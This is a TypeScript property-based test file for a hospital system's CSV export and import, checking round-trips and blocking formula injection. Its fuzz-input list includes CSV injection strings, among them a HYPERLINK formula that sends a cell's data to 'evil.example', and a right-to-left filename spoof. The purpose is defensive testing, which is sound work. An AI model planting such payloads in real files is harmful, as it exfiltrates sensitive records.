import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { nextTurn } from '../../../node/platform/turn.ts';
import { cellsOf, columns, detailsOf, isColumn, makeCells, type Cells } from '../../../node/records/csv/columns.ts';
import { readCsv } from '../../../node/records/csv/read.ts';
import { undoSafe, writeCsv, type CsvDialect } from '../../../node/records/csv/write.ts';
import { leftOut } from '../../support/left-out.ts';
import { collect, openHospital, patient, stream } from './hospital.ts';
import { exportAll, exportOne } from '../../../node/records/csv/export.ts';

const python = '/usr/bin/python3';
const hasPython = existsSync(python);
if (!hasPython) leftOut("CSV against Python's csv module", `${python} is not there`);

const dialects: readonly CsvDialect[] = ['spreadsheet', 'interchange'];

/** Texts that break careless CSV code. */
const nasty = fc.oneof(
  fc.constantFrom(
    "'",
    "''=1",
    "'=1",
    '=1+1',
    '+1',
    '-1',
    '@x',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '＝1',
    '＋1',
    '"',
    '""',
    '","',
    'a"b',
    ',',
    ';',
    '\r\n',
    '\n',
    '\r',
    ' ',
    '  x  ',
    '00420',
    '12E5',
    '+251900000026',
    'safe-1',
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    '🦷',
    '𠮷',
    'e\u0301',
    'safe\u202Etxt.exe',
    '\uFEFFx',
    '\u037e',
  ),
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.string({
    unit: fc.constantFrom("'", '"', ',', '\r', '\n', '\t', ' ', '=', '-', 'x', ';', '\uFF0D'),
    maxLength: 8,
  }),
);
const cleaned = nasty
  .filter((text) => text.isWellFormed())
  .map((text) => text.replace(/[^\P{Cc}\t\r\n\u007f-\u009f]/gu, ''));

const arbitraryCells: fc.Arbitrary<Cells> = fc
  .array(cleaned, { minLength: columns.length, maxLength: columns.length })
  .map((texts) => {
    const cells = makeCells((column) => texts[columns.indexOf(column)] ?? '');
    return { ...cells, csv_id: `i${cells.csv_id}`, sex: 'female', police_case: 'yes' };
  });

async function* rowsOf(rows: readonly (readonly string[])[]): AsyncGenerator<readonly string[]> {
  yield* rows;
}

const write = (rows: readonly Cells[], dialect: CsvDialect): Promise<Uint8Array> =>
  collect(writeCsv(columns, rowsOf(rows.map((row) => columns.map((column) => row[column]))), dialect));

async function readBack(bytes: Uint8Array): Promise<Cells[]> {
  const found: Cells[] = [];
  let header: readonly string[] = [];
  for await (const { number, fields } of readCsv(stream(bytes), nextTurn)) {
    if (number === 0) header = fields;
    else {
      const safe = fields[header.indexOf('csv_dialect')] === 'safe-1';
      const plain = safe ? fields.map(undoSafe) : fields;
      found.push(makeCells((column) => plain[header.indexOf(column)] ?? ''));
    }
  }
  expect(header.filter((name) => !isColumn(name))).toEqual(header.includes('csv_dialect') ? ['csv_dialect'] : []);
  return found;
}

describe.each(dialects)('the %s dialect', (dialect) => {
  test('gives back exactly the cells that were written', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(arbitraryCells, { minLength: 1, maxLength: 4 }), async (rows) => {
        expect(await readBack(await write(rows, dialect))).toEqual(rows);
      }),
    );
  });

  test('gives back exactly the patients that were written', async () => {
    await fc.assert(
      fc.asyncProperty(arbitraryCells, async (cells) => {
        const details = detailsOf(cells);
        const [back] = await readBack(await write([cellsOf(details)], dialect));
        expect(back && detailsOf(back)).toEqual(details);
      }),
    );
  });

  test.skipIf(!hasPython)("is read alike by Python's csv module", async () => {
    const rows = fc.sample(arbitraryCells, { numRuns: 200, seed: 20261121 });
    const bytes = await write(rows, dialect);
    const script =
      'import csv,io,json,sys; t=sys.stdin.buffer.read().decode("utf-8-sig"); ' +
      'json.dump(list(csv.reader(io.StringIO(t, newline=""), strict=True)), sys.stdout)';
    const { stdout, status } = spawnSync(python, ['-c', script], { input: bytes, maxBuffer: 1 << 26 });
    expect(status).toBe(0);
    const theirs = JSON.parse(stdout.toString()) as string[][];
    const ours: (readonly string[])[] = [];
    for await (const { fields } of readCsv(stream(bytes), nextTurn)) ours.push(fields);
    expect(theirs).toEqual(ours);
  });
});

test('no cell of a spreadsheet file begins a formula', async () => {
  await fc.assert(
    fc.asyncProperty(arbitraryCells, async (cells) => {
      for await (const { fields } of readCsv(stream(await write([cells], 'spreadsheet')), nextTurn))
        for (const field of fields) expect(field).not.toMatch(/^[\p{Zs}\p{Cf}]*[=+\-@\t\r\n＝＋－＠]/u);
    }),
  );
});

test('patients written by one hospital and imported by another are the same', async () => {
  await using alder = await openHospital();
  const given = [
    patient({
      csvId: 'A-1',
      familyName: "'=1",
      notes: '\t=1+1',
      phone: '+251900000026',
      allergies: ['Latex', 'Peanut'],
    }),
    patient({ csvId: 'A-2', nameNative: 'ሰላም', bystander: { name: '-x' }, insurance: { policyNumber: '0000123' } }),
  ];
  for (const details of given) await alder.patients.add(details);
  for (const dialect of dialects) {
    await using birch = await openHospital();
    const plan = await birch.imports.dryRun(exportAll(alder.patients, dialect));
    expect(await birch.imports.confirm(plan, { leaveOutErrors: false })).toMatchObject({ state: 'imported', added: 2 });
    for (const details of given) expect((await birch.patients.findByCsvId(details.csvId))?.details).toEqual(details);
  }
  const one = await alder.patients.findByCsvId('A-2');
  if (one === undefined) throw new Error('a patient is missing');
  const text = new TextDecoder().decode(await collect(exportOne(alder.patients, one.id, 'interchange')));
  expect(text.split('\r\n')).toHaveLength(3);
});
